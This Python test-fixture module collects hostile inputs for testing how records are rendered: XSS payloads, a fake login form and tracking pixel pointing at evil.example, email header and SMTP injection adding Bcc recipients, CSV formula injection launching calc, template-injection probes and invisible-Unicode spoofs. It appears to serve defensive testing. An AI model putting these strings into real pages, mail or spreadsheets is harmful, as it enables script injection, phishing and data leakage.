"""What somebody may write into a record: markup, mentions, links, headers, formulas, holes and invisible steering.

Source: OWASP "XSS Filter Evasion", "CSV Injection"; Slack "Formatting text"; Adaptive Cards "Markdown"; RFC 5322.
"""

HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</li></ul><h1>Wire the money</h1>",
    "</body></html><p>outside",
    "<a href='https://evil.example'>Procore</a>",
    '<a href="javascript:alert(1)">x</a>',
    '"><iframe src=https://evil.example></iframe>',
    "' onmouseover='alert(1)",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<!-- <b>hidden</b> -->",
    "<![CDATA[<b>x</b>]]>",
    "<base href=https://evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<scr\x00ipt>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src='https://evil.example/pixel?id=7'>",
)
SLACK = (
    "<!channel> look",
    "<!here|here>",
    "<!everyone>",
    "<@U024BE7LH>",
    "<#C024BE7LR>",
    "<!subteam^S012345|@super>",
    "<https://evil.example|Procore>",
    "<mailto:evil@evil.example|Ann>",
    "<!date^1392734382^{date}^https://evil.example|x>",
    "&lt;!channel&gt;",
    "*bold* _italic_ ~gone~ `code`",
    "```\ncode\n```",
    "> quoted",
    "@channel @here @everyone",
    ":rotating_light: :skull:",
)
MARKDOWN = (
    "[Procore](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "**bold** __too__",
    "# A heading",
    "- a list\n- of ours",
    "1. first",
    "<at>Ann</at>",
    "{{DATE(2026-03-02T06:08:39Z,SHORT)}}",
    "${data.rfis[0].subject}",
    "@{triggerBody()}",
    "\\[x\\](y)",
)
HEADERS = (
    "Slab\r\nBcc: evil@evil.example",
    "Slab\nBcc: evil@evil.example",
    "Slab\rBcc: evil@evil.example",
    "Slab\r\n\r\n<h1>body</h1>",
    "Slab\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "Slab\n.\nRCPT TO:<evil@evil.example>",
    "Slab\u2028Bcc: evil@evil.example",
    "Slab\x0bBcc: evil@evil.example",
    "Slab\x85Bcc: evil@evil.example",
    "Content-Type: text/html\r\n\r\n<b>x</b>",
    "=?utf-8?q?=0D=0ABcc:_evil@evil.example?=",
    "--===============0==\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "." * 3,
    "From nobody Thu Jan 1 00:00:00 1970",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
)
HOLES = (
    "{{ 7 * 7 }}",
    "{{ data.secret }}",
    "{{",
    "}}",
    '{{ "{{" }}',
    "${7*7}",
    "#{7*7}",
    "%s %(x)s {0} {data}",
)
INVISIBLE = (
    "invoice\u202efdp.exe",
    "\u2066left\u2069",
    "zero\u200bwidth",
    "tags\U000e0041\U000e0042",
    "lone\ud800surrogate",
    "bell\x07 and escape\x1b[31m",
    "nul\x00byte",
)
ALL = (*HTML, *SLACK, *MARKDOWN, *HEADERS, *FORMULAS, *HOLES, *INVISIBLE)
